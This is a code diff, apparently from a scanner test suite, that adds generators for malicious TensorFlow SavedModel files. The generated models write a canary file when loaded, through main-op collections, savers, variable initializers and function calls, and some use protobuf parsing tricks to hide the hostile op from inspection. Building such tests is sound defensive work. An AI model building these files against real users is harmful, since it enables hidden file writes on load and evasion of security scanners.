@@ -442,15 +442,9 @@ def _attribute(name: str, value: bytes) -> bytes:
 _STRING = b"\x30\x07"  # type: DT_STRING
 
 
-def _const(name: str, text: str) -> bytes:
-    tensor = field(8, b"\x08\x07" + field(2, b"") + field(8, text.encode()))
-    return field(
-        1,
-        field(1, name.encode())
-        + field(2, b"Const")
-        + _attribute("dtype", _STRING)
-        + _attribute("value", tensor),
-    )
+def _const(name: str, text: str, *inputs: str, shape: bytes = b"") -> bytes:
+    tensor = field(8, b"\x08\x07" + field(2, shape) + field(8, text.encode()))
+    return _node(name, "Const", *inputs, dtype=_STRING, value=tensor)
 
 
 def _node(name: str, op: str, *inputs: str, **attributes: bytes) -> bytes:
@@ -501,13 +495,38 @@ def _savedmodel(path: Path, *meta_graphs: bytes) -> None:
 
 def _meta_graph(graph: bytes, saver: bytes = b"", collections: bytes = b"") -> bytes:
     info = field(1, field(4, b"serve"))
-    output = field(2, field(1, b"y") + field(2, field(1, b"y:0") + b"\x10\x01"))
-    given = field(1, field(1, b"x") + field(2, field(1, b"x:0") + b"\x10\x01"))
+    floats = b"\x10\x01" + field(3, field(2, b"\x08\x01") + field(2, b"\x08\x04"))
+    output = field(2, field(1, b"y") + field(2, field(1, b"y:0") + floats))
+    given = field(1, field(1, b"x") + field(2, field(1, b"x:0") + floats))
     signature = field(5, field(1, b"serving_default") + field(2, given + output))
     return info + field(2, graph) + saver + collections + signature
 
 
 _PLAIN = _node("x", "Placeholder", **_FLOATS) + _node("y", "Relu", "x", T=b"\x30\x01")
+# A collection: what TensorFlow runs when it has loaded the model.
+_RUNS_EVIL = field(4, field(1, b"saved_model_main_op") + field(2, field(1, field(1, b"evil"))))
+
+
+def _save_nodes(bait: Bait, output: str = "") -> list[bytes]:
+    """What saves a text to the canary; in a function, inputs are an ``output`` of their nodes."""
+    one = field(2, b"\x08\x01")
+    texts = [_const("a", str(bait.canary)), _const("n", "n", shape=one), _const("s", "", shape=one)]
+    inputs = [name + output for name in "ansn"]
+    return [*texts, _node("evil", "SaveV2", *inputs, dtypes=field(1, b"\x32\x01\x07"))]
+
+
+def _function(signature: bytes, *nodes: bytes) -> bytes:
+    """One for a graph's library, which runs ``evil`` and returns a text."""
+    signature += field(3, field(1, b"t") + b"\x18\x07")
+    returned = field(4, field(1, b"t") + field(2, b"r:output:0"))
+    # A graph has another number for its nodes.
+    body = b"".join(b"\x1a" + node[1:] for node in (*nodes, _const("r", "", "^evil")))
+    return field(1, field(1, signature) + body + returned)
+
+
+def _call(op: str, **attributes: bytes) -> bytes:
+    """A call of such a function, and the node ``evil`` that depends on it."""
+    return _node("call", op, **attributes) + _node("evil", "Identity", "call", T=_STRING)
 
 
 @attack("second-graph-savedmodel")
@@ -521,19 +540,92 @@ def savedmodel_with_two_graphs(path: Path, bait: Bait) -> None:
 @attack("saver-savedmodel")
 def savedmodel_that_saves_when_it_loads(path: Path, bait: Bait) -> None:
     """Ops that are no hazard in the saver, named as what restores the variables."""
-    consts = _const("a", str(bait.canary)) + _const("n", "name") + _const("s", "")
-    save = _node("evil", "SaveV2", "a", "n", "s", "n", dtypes=field(1, b"\x30\x07"))
-    saver = field(3, field(1, b"a:0") + field(2, b"evil:0") + field(3, b"evil"))
-    _savedmodel(path, _meta_graph(_PLAIN + consts + save, saver))
+    saver = field(3, field(1, b"name:0") + field(2, b"evil:0") + field(3, b"evil"))
+    graph = _PLAIN + _const("name", "") + b"".join(_save_nodes(bait))
+    _savedmodel(path, _meta_graph(graph, saver))
 
 
 @attack("init-op-savedmodel")
 def savedmodel_with_an_initializer(path: Path, bait: Bait) -> None:
     consts = _const("a", str(bait.canary)) + _const("b", "x")
-    names = field(1, field(1, b"evil"))
-    collection = field(4, field(1, b"saved_model_main_op") + field(2, names))
     evil = _node("evil", "WriteFile", "a", "b")
-    _savedmodel(path, _meta_graph(_PLAIN + consts + evil, collections=collection))
+    _savedmodel(path, _meta_graph(_PLAIN + consts + evil, collections=_RUNS_EVIL))
+
+
+@attack("hidden-op-savedmodel")
+def savedmodel_with_a_hidden_op(path: Path, bait: Bait) -> None:
+    """The number of a field has more bits than protobuf looks at in TensorFlow 2.10."""
+    consts = _const("a", str(bait.canary)) + _const("b", "x")
+    evil = b"\x8a\x80\x80\x80\x10" + _node("evil", "WriteFile", "a", "b")[1:]
+    _savedmodel(path, _meta_graph(_PLAIN + consts + evil, collections=_RUNS_EVIL))
+
+
+@attack("print-key-twice-savedmodel")
+def savedmodel_with_a_key_twice(path: Path, bait: Bait) -> None:
+    """Of two names of an attribute, protobuf takes the last one."""
+    stream = field(2, field(2, f"file://{bait.canary}".encode()))
+    attribute = field(5, field(1, b"x") + field(1, b"output_stream") + stream)
+    evil = field(1, field(1, b"evil") + field(2, b"PrintV2") + field(3, b"b") + attribute)
+    _savedmodel(path, _meta_graph(_PLAIN + _const("b", "x") + evil, collections=_RUNS_EVIL))
+
+
+@attack("print-placeholder-savedmodel")
+def savedmodel_with_a_file_for_a_function(path: Path, bait: Bait) -> None:
+    """The op is in a function, and its file is an attribute of the call."""
+    signature = field(1, b"P") + field(4, field(1, b"os") + field(2, b"string"))
+    evil = _node("evil", "PrintV2", "b:output:0", output_stream=field(9, b"os"))
+    library = field(2, _function(signature, _const("b", "x"), evil))
+    call = _call("P", os=field(2, f"file://{bait.canary}".encode()))
+    _savedmodel(path, _meta_graph(_PLAIN + call + library, collections=_RUNS_EVIL))
+
+
+_CALLS_F = {
+    "Tin": field(1, b""),
+    "Tout": field(1, b"\x32\x01\x07"),
+    "f": field(10, field(1, b"F")),
+}
+_SAVER = field(3, field(1, b"name:0") + field(2, b"save:0") + field(3, b"restore"))
+_SAVER_NODES = (
+    _node("saved", "StatefulPartitionedCall", **_CALLS_F)
+    + _node("save", "Identity", "saved", T=_STRING)
+    + _node("restore", "NoOp")
+    + _const("name", "")
+)
+
+
+def _f(bait: Bait, signature: bytes = field(1, b"F")) -> bytes:
+    """A library with ``F``, which saves; in the saver that is no hazard."""
+    return field(2, _function(signature, *_save_nodes(bait, ":output:0")))
+
+
+@attack("saver-as-an-op-savedmodel")
+def savedmodel_with_an_op_that_is_the_saver(path: Path, bait: Bait) -> None:
+    graph = _PLAIN + _SAVER_NODES + _call("F") + _f(bait)
+    _savedmodel(path, _meta_graph(graph, _SAVER, _RUNS_EVIL))
+
+
+@attack("saver-as-a-variable-savedmodel")
+def savedmodel_with_a_variable_that_saves(path: Path, bait: Bait) -> None:
+    """Local variables are initialized when the model is loaded, by the op that they name."""
+    variable = field(1, b"name:0") + field(2, b"save") + field(3, b"name:0")
+    collection = field(1, b"local_variables") + field(2, field(2, field(1, variable)))
+    graph = _PLAIN + _SAVER_NODES + _f(bait)
+    _savedmodel(path, _meta_graph(graph, _SAVER, field(4, collection)))
+
+
+@attack("saver-in-two-parts-savedmodel")
+def savedmodel_with_a_graph_in_two_parts(path: Path, bait: Bait) -> None:
+    """Protobuf merges them; the saver is in the first, what calls it in the second."""
+    rest = field(2, _call("StatefulPartitionedCall", **_CALLS_F))
+    graph = _PLAIN + _SAVER_NODES + _f(bait)
+    _savedmodel(path, _meta_graph(graph, _SAVER + rest, _RUNS_EVIL))
+
+
+@attack("saver-of-two-names-savedmodel")
+def savedmodel_with_a_function_of_two_names(path: Path, bait: Bait) -> None:
+    call = _call("StatefulPartitionedCall", **_CALLS_F)
+    library = _f(bait, field(1, b"Z") + field(1, b"F"))
+    _savedmodel(path, _meta_graph(_PLAIN + _SAVER_NODES + call + library, _SAVER, _RUNS_EVIL))
 
 
 # -- archives
